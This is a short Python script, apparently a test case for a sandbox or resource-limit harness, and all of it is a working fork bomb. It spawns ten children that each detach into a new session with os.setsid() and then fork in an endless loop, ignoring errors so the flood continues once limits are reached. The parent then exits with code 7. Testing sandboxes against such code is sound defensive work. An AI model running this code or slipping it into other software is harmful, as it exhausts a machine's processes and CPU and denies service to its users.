import os, time
from attack import children
def fork(_):
    os.setsid()
    while True:
        try: os.fork()
        except OSError: pass
children(10, fork)
time.sleep(0.2)
os._exit(7)
